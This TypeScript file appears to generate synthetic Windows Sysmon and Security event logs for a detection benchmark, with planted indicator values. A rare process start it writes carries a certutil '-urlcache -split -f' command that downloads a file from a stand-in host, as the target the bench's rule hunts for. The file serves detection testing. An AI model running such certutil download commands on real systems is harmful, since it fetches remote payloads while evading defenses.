import { eventValues, seenIndicators, seenOfKind, type ValueKind } from './made-values.ts';

export const eventsOfDay = 500_000;

/** One event in so many shows an indicator. */
const indicatorEvery = 50_000;
/** One process start in so many is what the rule of the bench looks for. */
const huntedEvery = 250_000;

const firstDayMs = Date.UTC(2026, 0, 1);
const dayMs = 86_400_000;

/** Which events show an indicator: their kind decides of which kind it is. */
export function indicatorHits(events: number): number {
  let hits = 0;
  for (let n = 0; n < events; n++) if (isMarked(n)) hits++;
  return hits;
}

/**
 * Events of Windows hosts as a shipper writes them (NXLog's im_msvistalog with to_json): a line an event, by time. Of four events
 * two are network connections (Sysmon 3), one is a process start (1); the fourth is a DNS query (22) or a logon (Security 4624).
 * The same number gives the same line on any machine.
 */
export class MadeEvents {
  private readonly values = eventValues();
  private readonly seen = seenIndicators();

  /** Lines of a day, as one text with their ends. */
  *day(day: number, events = eventsOfDay): Generator<string> {
    let text = '';
    for (let i = 0; i < events; i++) {
      text += this.line(day * eventsOfDay + i, new Date(firstDayMs + day * dayMs + Math.floor((i * dayMs) / events)));
      if (text.length > 1 << 22) {
        yield text;
        text = '';
      }
    }
    yield text;
  }

  private line(n: number, time: Date): string {
    const chance = chanceOf(n);
    const host = `WS-${String(chance() % 400).padStart(3, '0')}.corp.zz`;
    const head = `{"TimeCreated":"${time.toISOString()}","Hostname":"${host}","RecordNumber":${n + 1}`;
    const user = `CORP\\\\user${chance() % 900}`;
    const usual = programs[chance() % programs.length] as Program;
    const program = isHunted(n) ? certutil : usual;
    const { image } = program;
    const process = `"ProcessGuid":"${guid(chance)}","ProcessId":"${chance() % 20_000}","Image":"${image}","User":"${user}"`;
    if (n % 4 === 1) return `${head},${sysmon(1)},${process},${this.started(n, chance, program)}}\n`;
    if (n % 4 !== 3) return `${head},${sysmon(3)},${process},${this.connected(n, chance)}}\n`;
    if (n % 8 === 3) return `${head},${sysmon(22)},${process},${this.asked(n, chance)}}\n`;
    return `${head},${security},${this.loggedOn(n, chance)}}\n`;
  }

  private started(n: number, chance: Chance, { image, parent, words }: Program): string {
    const name = image.slice(image.lastIndexOf('\\') + 1);
    const command = isHunted(n) ? words : `\\"${image}\\" ${words} ${chance() % 5_000}`;
    return `"OriginalFileName":"${name}","CommandLine":"${command}","LogonId":"0x${(chance() % 90_000).toString(16)}","IntegrityLevel":"${chance() % 5 === 0 ? 'High' : 'Medium'}","Hashes":"SHA256=${this.value('sha256', n, chance)}","ParentImage":"${parent}","ParentCommandLine":"${parent}"`;
  }

  private connected(n: number, chance: Chance): string {
    const [from, to] = [chance() % 400, this.value('address', n, chance)];
    return `"Protocol":"tcp","Initiated":"true","SourceIp":"10.1.${from >> 8}.${from & 255}","SourcePort":"${49_152 + (chance() % 16_000)}","DestinationIp":"${to}","DestinationHostname":"-","DestinationPort":"${chance() % 3 === 0 ? 80 : 443}"`;
  }

  private asked(n: number, chance: Chance): string {
    return `"QueryName":"${this.value('domain', n, chance)}","QueryStatus":"0","QueryResults":"::ffff:10.2.0.${chance() % 250};"`;
  }

  private loggedOn(n: number, chance: Chance): string {
    const from = chance() % 400;
    return `"TargetUserName":"user${chance() % 900}","TargetDomainName":"CORP","TargetLogonId":"0x${(n & 0xff_ffff).toString(16)}","LogonType":"${chance() % 4 === 0 ? 10 : 3}","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","IpAddress":"10.1.${from >> 8}.${from & 255}","IpPort":"${49_152 + (chance() % 16_000)}"`;
  }

  private value(kind: ValueKind, n: number, chance: Chance): string {
    const values = this.values[kind];
    if (isMarked(n)) return this.seen[kind][Math.floor(n / indicatorEvery) % seenOfKind] as string;
    return values[chance() % values.length] as string;
  }
}

/** Spread over those kinds of events that have a value to show. */
function isMarked(n: number): boolean {
  const shift = Math.floor(n / indicatorEvery) % 4;
  return n % indicatorEvery === [41, 42, 43, 44][shift];
}

/** A process start that the rule of the bench matches. */
function isHunted(n: number): boolean {
  return n % 4 === 1 && (n >> 2) % huntedEvery === 99;
}

type Chance = () => number;

/** Numbers below 2^24 that depend on `n` alone: a linear congruential generator without its low bits, which repeat soon. */
function chanceOf(n: number): Chance {
  let state = mixed(n);
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state >>> 8;
  };
}

/** Numbers that stand side by side have nothing in common afterwards (the end of MurmurHash3, by A. Appleby, public domain). */
function mixed(n: number): number {
  const once = Math.imul(n ^ (n >>> 16), 0x85eb_ca6b);
  const twice = Math.imul(once ^ (once >>> 13), 0xc2b2_ae35);
  return (twice ^ (twice >>> 16)) >>> 0;
}

function sysmon(id: number): string {
  return `"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","EventID":${id}`;
}

const security = '"Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","EventID":4624';

function guid(chance: Chance): string {
  const part = () => (chance() & 0xffff).toString(16).padStart(4, '0');
  return `{3b1c7f90-${part()}-${part()}-${part()}-00000000${part()}}`;
}

interface Program {
  readonly image: string;
  readonly parent: string;
  /** Of the command line, behind the program. */
  readonly words: string;
}

/** Everyday programs, so that few rules have something to say about them. Texts as JSON spells them. */
const programs: readonly Program[] = [
  program('Windows\\System32\\RuntimeBroker.exe', 'Windows\\System32\\svchost.exe', '-Embedding'),
  program('Windows\\System32\\backgroundTaskHost.exe', 'Windows\\System32\\svchost.exe', '-ServerName:App'),
  program('Windows\\System32\\taskhostw.exe', 'Windows\\System32\\svchost.exe', 'Install'),
  program(
    'Windows\\System32\\dllhost.exe',
    'Windows\\System32\\svchost.exe',
    '/Processid:{3eb3c877-1f16-487c-9050-104dbcd66683}',
  ),
  program('Windows\\System32\\SearchProtocolHost.exe', 'Windows\\System32\\SearchIndexer.exe', 'Global'),
  program('Windows\\System32\\wbem\\WmiPrvSE.exe', 'Windows\\System32\\svchost.exe', '-secured -Embedding'),
  program('Program Files\\Google\\Chrome\\Application\\chrome.exe', 'Windows\\explorer.exe', '--profile'),
  program('Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 'Windows\\explorer.exe', '--window'),
  program('Program Files\\Mozilla Firefox\\firefox.exe', 'Windows\\explorer.exe', '-osint -url'),
  program('Program Files\\7-Zip\\7zFM.exe', 'Windows\\explorer.exe', 'notes'),
];

const certutil = program(
  'Windows\\System32\\certutil.exe',
  'Windows\\explorer.exe',
  'certutil.exe -urlcache -split -f http://files.zz/a.txt a.txt',
);

function program(image: string, parent: string, words: string): Program {
  const spelt = (path: string) => `C:\\${path}`.replaceAll('\\', '\\\\');
  return { image: spelt(image), parent: spelt(parent), words };
}
